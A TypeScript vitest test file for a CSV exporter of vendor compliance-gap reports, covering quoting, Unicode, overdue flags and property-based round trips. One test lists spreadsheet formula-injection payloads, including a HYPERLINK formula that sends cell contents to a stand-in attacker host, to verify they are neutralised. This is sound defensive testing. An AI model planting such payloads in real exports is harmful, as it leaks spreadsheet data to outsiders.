import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { GAP_CSV_HEADERS, gapReportToCsv } from "./csv";
import { makeSampleReport, makeSampleVendor } from "./sample-report";
import type { GapReport } from "./types";

// Minimal RFC 4180 reader, written independently of the exporter so a quoting
// bug in one is not mirrored in the other.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inQuotes) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        inQuotes = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      if (field !== "") throw new Error(`quote inside unquoted field at ${i}`);
      inQuotes = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else if (c === "\r" || c === "\n") {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      field += c;
    }
  }
  if (inQuotes) throw new Error("unterminated quoted field");
  if (field !== "" || row.length > 0) throw new Error("last record not terminated by CRLF");
  return rows;
}

function recordsOf(csv: string): Record<string, string>[] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  const all = parseCsv(csv.slice(1));
  const at = all.findIndex((r) => r[0] === GAP_CSV_HEADERS[0] && r.length === GAP_CSV_HEADERS.length);
  expect(at).toBeGreaterThan(0);
  const [header, ...rows] = all.slice(at);
  expect(header).toEqual([...GAP_CSV_HEADERS]);
  return rows.map((r) => {
    expect(r).toHaveLength(header.length);
    return Object.fromEntries(header.map((h, i) => [h, r[i]]));
  });
}

function reportWith(overrides: { vendorName?: string; titles: string[] }): GapReport {
  const vendor = makeSampleVendor(0, overrides.titles.length, overrides.vendorName);
  vendor.gaps = vendor.gaps.map((g, i) => ({
    ...g,
    title: overrides.titles[i],
    status: "open",
    severity: "high",
    dueDate: null,
  }));
  return { ...makeSampleReport(1, 0), vendors: [vendor] };
}

describe("gapReportToCsv", () => {
  it("writes one row per gap with the vendor columns repeated", () => {
    const report = makeSampleReport(3, 7);
    const records = recordsOf(gapReportToCsv(report));
    expect(records).toHaveLength(21);
    const keys = records.map((r) => r["Gap key"]).sort();
    expect(keys).toEqual(report.vendors.flatMap((v) => v.gaps.map((g) => g.key)).sort());
    for (const r of records) {
      const vendor = report.vendors.find((v) => v.id === r["Vendor ID"])!;
      const gap = vendor.gaps.find((g) => g.key === r["Gap key"])!;
      expect(r.Vendor).toBe(vendor.name);
      expect(r.Title).toBe(gap.title);
      expect(r.Owner).toBe(gap.ownerName ?? "");
      expect(r["Due date"]).toBe(gap.dueDate ?? "");
      expect(r.Citation).toBe(gap.citation ?? "");
      expect(r.Severity).toBe(gap.severity);
    }
  });

  it("round-trips quotes, commas, newlines and Unicode inside cells", () => {
    const titles = ['He said "no", then left', "line one\nline two\r\nline three", "a,b,,c", "Zoë’s “quoted” 数据"];
    const records = recordsOf(gapReportToCsv(reportWith({ vendorName: 'Acme, "Inc."', titles })));
    expect(records.map((r) => r.Title)).toEqual(titles);
    expect(records[0].Vendor).toBe('Acme, "Inc."');
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
    ["+1"],
    ["-2"],
    ["@SUM(A1:A2)"],
    ["\t=1"],
    ["\r=1"],
    ["\0=1"],
    ["＝1+1"],
    ["＋1"],
    ["－1"],
    ["＠SUM(1)"],
  ])("neutralises formula injection %j with a leading apostrophe and keeps the rest intact", (payload) => {
    const records = recordsOf(gapReportToCsv(reportWith({ vendorName: payload, titles: [payload] })));
    expect(records[0].Vendor).toBe(`'${payload}`);
    expect(records[0].Title).toBe(`'${payload}`);
  });

  it("leaves harmless values alone, including ones with a formula character later on", () => {
    const titles = ["Total = 3", "a-b", "user@example.com", "'already quoted", " =leading space"];
    const records = recordsOf(gapReportToCsv(reportWith({ titles })));
    expect(records.map((r) => r.Title)).toEqual(titles);
  });

  it("flags overdue active gaps against the as-of date, not the clock", () => {
    const report = reportWith({ titles: ["late", "on time", "closed late"] });
    const [late, onTime, closed] = report.vendors[0].gaps;
    Object.assign(late, { dueDate: "2026-11-22" });
    Object.assign(onTime, { dueDate: "2026-11-23" });
    Object.assign(closed, { dueDate: "2020-01-01", status: "resolved" });
    const byTitle = Object.fromEntries(recordsOf(gapReportToCsv(report)).map((r) => [r.Title, r.Overdue]));
    expect(byTitle).toEqual({ late: "yes", "on time": "no", "closed late": "no" });
  });

  it("round-trips any text, changed only by a leading apostrophe on formula triggers (property)", () => {
    const edgy = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", "＝", "é", "“", "\0", " ");
    const cellText = fc
      .array(fc.oneof(edgy, fc.string({ maxLength: 3 })), { maxLength: 8 })
      .map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(cellText, { minLength: 1, maxLength: 5 }), cellText, (titles, vendorName) => {
        const records = recordsOf(gapReportToCsv(reportWith({ vendorName, titles })));
        const expected = (s: string) => (/^[=+\-@\t\r\0＝＋－＠]/.test(s) ? `'${s}` : s);
        expect(records.map((r) => r.Title)).toEqual(titles.map(expected));
        expect(records[0].Vendor).toBe(expected(vendorName));
      }),
      { numRuns: 300 },
    );
  });

  it("writes only the header for a report without gaps", () => {
    expect(recordsOf(gapReportToCsv(makeSampleReport(2, 0)))).toEqual([]);
  });
});
